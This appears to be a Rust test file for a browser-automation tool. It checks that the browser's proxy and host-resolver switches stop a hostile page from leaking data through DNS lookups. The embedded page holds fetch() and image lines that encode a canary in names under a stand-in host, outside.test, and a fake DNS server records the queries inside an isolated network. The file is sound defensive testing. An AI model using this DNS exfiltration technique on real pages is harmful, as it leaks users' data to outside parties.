//! A hostile page that puts what it stole into names of hosts: whoever is asked for them hears it, and
//! no connection is needed. The twin is a browser from whose command line the switches that are the
//! wall were taken; both run behind the same script.
//!
//! Each night is in a network of its own with nothing but a loopback, so that nothing leaves this
//! machine, wall or not. There 127.0.0.2 can be asked for names at the usual port, which is root's
//! elsewhere, and the files that say who is asked name it. Where a user may have no such network, there
//! is nothing to try.

use std::process::{Command, Stdio};

use crate::support::{ANSWERING, Answer, SuiteCopy, night_json, nightshift};

use super::peers;
use super::yard::CANARY;

/// The ways; each looks up a name that begins with the canary and its own.
const WAYS: [&str; 2] = ["image", "fetch"];
/// The switches that are the wall.
const WALL: &str = "--proxy-server=*|--host-resolver-rules=*";
/// A pattern that no switch has.
const NOTHING: &str = "--nothing";
/// A network and mounts of one's own.
const ALONE: [&str; 4] = ["--user", "--map-root-user", "--net", "--mount"];
/// By these a browser would ask somebody else to look names up.
const PROXIES: [&str; 6] =
    ["http_proxy", "https_proxy", "all_proxy", "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY"];

/// `dns-prefetch` and `preconnect` are there for the wall alone: no browser has to follow them.
const PAGES: &str = r#"
from answering import Answering, serve
PAGE = """<!doctype html><html lang="en"><title>Shop</title><h1>Shop</h1><p role="status"></p>
<link rel="dns-prefetch" href="http://CANARY-prefetch.outside.test/">
<link rel="preconnect" href="http://CANARY-connect.outside.test/">
<script>
const seen = new Promise((done) => {
  const image = new Image();
  image.onload = image.onerror = done;
  image.src = 'http://CANARY-image.outside.test/';
});
const asked = fetch('http://CANARY-fetch.outside.test/', { mode: 'no-cors' }).catch(() => {});
Promise.all([seen, asked]).then(() => {
  document.querySelector('[role=status]').textContent = 'Tried';
});
</script></html>"""
class Pages(Answering):
    def do_GET(self):
        self.answer(200, 'text/html; charset=utf-8', PAGE)
serve(Pages)
"#;

/// Knows no name, writes down which it was asked for, and runs a program in whose network it is asked.
const NAMES: &str = r"
import fcntl, os, socket, struct, subprocess, sys, threading
folder, program = sys.argv[1], sys.argv[2:]

def lay(name, text, *places):
    path = os.path.join(folder, name)
    with open(path, 'w') as file:
        file.write(text)
    for place in map(os.path.realpath, places):
        if os.path.exists(place):
            subprocess.run(['mount', '--bind', path, place], check=True)

# Daemons of this machine would hand a question on to the world.
lay('nobody', '', '/run/systemd/resolve/io.systemd.Resolve', '/run/nscd/socket')
lay('order', 'hosts: files dns\n', '/etc/nsswitch.conf')
lay('server', 'nameserver 127.0.0.2\noptions timeout:1 attempts:1\n', '/etc/resolv.conf')

server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
SET_FLAGS, UP = 0x8914, 1
fcntl.ioctl(server, SET_FLAGS, struct.pack('16sH22x', b'lo', UP))
server.bind(('127.0.0.2', 53))

def answer():
    while True:
        data, peer = server.recvfrom(2048)
        labels, at = [], 12
        while at < len(data) and data[at]:
            labels.append(data[at + 1:at + 1 + data[at]].decode('latin-1').lower())
            at += data[at] + 1
        with open(os.path.join(folder, 'asked'), 'a') as asked:
            asked.write('.'.join(labels) + '\n')
        no_such_name = data[:2] + b'\x81\x83' + data[4:6] + bytes(6) + data[12:at + 5]
        server.sendto(no_such_name, peer)

threading.Thread(target=answer, daemon=True).start()
sys.exit(subprocess.run(program).returncode)
";

pub fn names() -> Vec<String> {
    WAYS.iter().map(|it| format!("leave a page by the name of a host: {it}")).collect()
}

/// Whether a user may have a network of his own here.
fn can_be_alone() -> bool {
    let mut tried = Command::new("unshare");
    tried.args(ALONE).arg("true").stderr(Stdio::null());
    tried.status().is_ok_and(|it| it.success())
}

/// The names with the canary that were asked for in a night in whose browser these switches are
/// missing; `None` where there is no network to try it in.
fn asked(taken: &str) -> Option<String> {
    if !can_be_alone() {
        return None;
    }
    let suite = SuiteCopy::empty();
    suite.write("data/answering.py", ANSWERING);
    suite.write("data/pages.py", &PAGES.replace("CANARY", CANARY));
    suite.write("names/names.py", NAMES);
    let scenario = "scenario: visit\nsteps:\n  - open: /\n  - see: 'text \"Tried\"'\n";
    suite.write("scenarios/visit.yaml", scenario);
    let config = format!(
        "products:\n  shop:\n    data: data\n    serve: {{ run: 'python3 pages.py ${{port}}', ready: {{ http: / }} }}\nnight: {{ retries: 0 }}\nbrowser: {{ program: '{}', timeout: 30s }}\n",
        peers::browser_without(&suite, taken).display()
    );
    suite.write("nightshift.yaml", &config);
    let names = suite.root().join("names");
    let ours = nightshift();
    let mut command = Command::new("unshare");
    command.args(ALONE).arg("python3").args([&names.join("names.py"), &names]);
    command.arg(ours.get_program()).args(["run", "--no-pdf", "--out", "night"]);
    for (name, value) in ours.get_envs() {
        match value {
            Some(value) => command.env(name, value),
            None => command.env_remove(name),
        };
    }
    for name in PROXIES {
        command.env_remove(name);
    }
    let answer = Answer::from(command.current_dir(suite.root()).output().expect("it starts"));
    assert!(suite.root().join("night/night.json").is_file(), "{answer:#?}");
    let night = night_json(&suite.root().join("night"));
    let outcome = &night["scenarios"][0]["attempts"][0]["outcome"];
    assert_eq!(outcome, "completed", "the page tried: {answer:#?}");
    let asked = std::fs::read_to_string(names.join("asked")).unwrap_or_default();
    let with_canary: Vec<&str> = asked.lines().filter(|it| it.contains(CANARY)).collect();
    Some(with_canary.join("\n"))
}

#[test]
fn no_name_that_a_page_makes_up_is_looked_up() {
    let Some(asked) = asked(NOTHING) else { return };
    assert_eq!(asked, "");
}

#[test]
fn the_names_that_a_page_makes_up_are_looked_up_where_the_browser_has_no_wall() {
    let Some(asked) = asked(WALL) else { return };
    for way in WAYS {
        assert!(asked.contains(&format!("{CANARY}-{way}.outside.test")), "{way}: {asked}");
    }
}
